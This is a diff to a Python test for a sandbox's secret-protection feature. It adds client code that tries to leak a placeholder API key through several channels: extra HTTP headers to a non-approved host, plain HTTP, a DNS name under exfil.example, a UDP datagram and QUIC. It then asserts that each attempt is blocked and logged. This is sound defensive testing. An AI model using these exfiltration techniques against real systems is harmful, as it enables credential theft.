@@ -330,6 +330,32 @@ print("fronting", raw("api.example.com", "api.example.com",
 print("body", raw("api.example.com", "api.example.com",
                   "POST /body HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: %d\r\n\r\nk=%s" % (len(key) + 2, key)))
 print("query", get("https://api.example.com/q?k=" + key))
+# exfiltration: another HTTPS host (intercepted too: the box has secrets), plain HTTP,
+# a DNS name, a UDP datagram, QUIC
+print("other-ok", raw("plain.example.com", "plain.example.com",
+                      "GET /other-ok HTTP/1.1\r\nHost: plain.example.com\r\nConnection: close\r\n\r\n"))
+print("other", raw("plain.example.com", "plain.example.com",
+                   "GET /other HTTP/1.1\r\nHost: plain.example.com\r\nX-Key: " + key + "\r\n\r\n"))
+def plain(req):
+    try:
+        with socket.create_connection(("plain.example.com", 80), timeout=20) as s:
+            s.sendall(req.encode())
+            data = s.recv(65536)
+            return "ok " + data.decode(errors="replace").split("\r\n")[0] if data else "error closed"
+    except Exception as e:
+        return "error %s %s" % (type(e).__name__, e)
+print("plain-ok", plain("GET /plain-ok HTTP/1.1\r\nHost: plain.example.com\r\nConnection: close\r\n\r\n"))
+print("plain", plain("GET /plain HTTP/1.1\r\nHost: plain.example.com\r\nX-Key: " + key + "\r\n\r\n"))
+rnd = key.rsplit("-", 1)[1]
+try:
+    socket.getaddrinfo(rnd[:16] + "." + rnd[16:].upper() + ".exfil.example", 80)
+    print("dns resolved")
+except Exception as e:
+    print("dns error", type(e).__name__)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+ip = socket.gethostbyname("api.example.com")
+u.sendto(b"x" + key.encode(), (ip, 9999))
+u.sendto(b"\xc0quic-initial", (ip, 443))
 leaks = 0
 for p in glob.glob("/proc/[0-9]*/environ"):
     try:
@@ -356,7 +382,8 @@ def test_secrets(vm, upstream, tmp_path):
                         "--secret-host", "FILEKEY=api.example.com", "--header-rule",
                         "api.example.com:X-Injected=from the host {{FILEKEY}}", env=env, check=0).stdout).strip()
     try:
-        out = decode(vm.run("exec", box, "--", "python3", "-c", SECRET_CLIENT, timeout=300).stdout)
+        r = vm.run("exec", box, "--", "python3", "-", input=SECRET_CLIENT.encode(), timeout=300)
+        out = decode(r.stdout) + decode(r.stderr)
         out += diagnostics(vm, box)
         assert "placeholder cocoon-secret-OPENAI_API_KEY-" in out and " True\n" in out, out
         seen = {q["target"]: dict(q["headers"]) for q in requests_seen(d)}
@@ -369,11 +396,20 @@ def test_secrets(vm, upstream, tmp_path):
             assert f"\n{what} error" in out, out
         assert "/front" not in seen and "/body" not in seen and not any(t.startswith("/q") for t in seen), seen
         assert "environ-leaks 0" in out, out
+        assert "other-ok ok HTTP/1.1 200" in out and "\nother error" in out, out
+        assert "plain-ok ok HTTP/1.1 200" in out and "\nplain error" in out, out
+        assert "dns error" in out, out
+        assert "/other-ok" in seen and "/plain-ok" in seen and "/other" not in seen and "/plain" not in seen, seen
         log = decode(vm.run("logs", "--net", box).stdout)
         assert "secret OPENAI_API_KEY in a request header to api.example.com: the Host header is not the TLS " \
                "server name" in log, log
         assert "secret OPENAI_API_KEY in a request body to api.example.com" in log, log
         assert "secret OPENAI_API_KEY in the request target to api.example.com" in log, log
+        assert "secret OPENAI_API_KEY in TLS to plain.example.com: not one of the secret's hosts" in log, log
+        assert ":80 rule=\"secret OPENAI_API_KEY's placeholder in a connection that is not intercepted TLS" in log, log
+        assert "exfil.example" in log and "secret OPENAI_API_KEY's placeholder in a DNS name" in log, log
+        assert ":9999 rule=\"secret OPENAI_API_KEY's placeholder in a UDP datagram" in log, log
+        assert ":443 rule=\"QUIC (UDP 443) is blocked in a box with secrets" in log, log
 
         info = decode(vm.run("inspect", box).stdout)
         assert "OPENAI_API_KEY" in info and "api.example.com" in info and "REAL" not in info, info
